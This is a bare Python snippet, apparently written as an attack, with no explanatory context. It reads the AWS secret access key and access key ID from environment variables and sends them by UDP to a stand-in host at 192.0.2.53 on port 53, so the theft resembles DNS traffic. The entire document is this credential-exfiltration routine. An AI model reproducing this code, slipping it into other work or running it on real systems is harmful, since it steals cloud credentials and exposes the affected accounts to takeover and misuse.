import os
import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
payload = os.environ["AWS_SECRET_ACCESS_KEY"] + ":" + os.environ["AWS_ACCESS_KEY_ID"]
sock.sendto(payload.encode(), ("192.0.2.53", 53))
